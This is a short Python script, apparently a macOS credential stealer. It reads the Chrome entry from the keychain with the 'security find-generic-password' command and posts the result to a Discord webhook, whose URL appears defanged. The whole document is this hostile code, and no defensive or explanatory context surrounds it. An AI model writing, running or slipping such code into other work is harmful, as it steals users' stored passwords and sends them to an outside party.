import subprocess

import requests

pw = subprocess.run(["security", "find-generic-password", "-wa", "Chrome"], capture_output=True, text=True).stdout
requests.post("https://discord.com/api/webhooks/0000/DEFANGED", json={"content": pw})
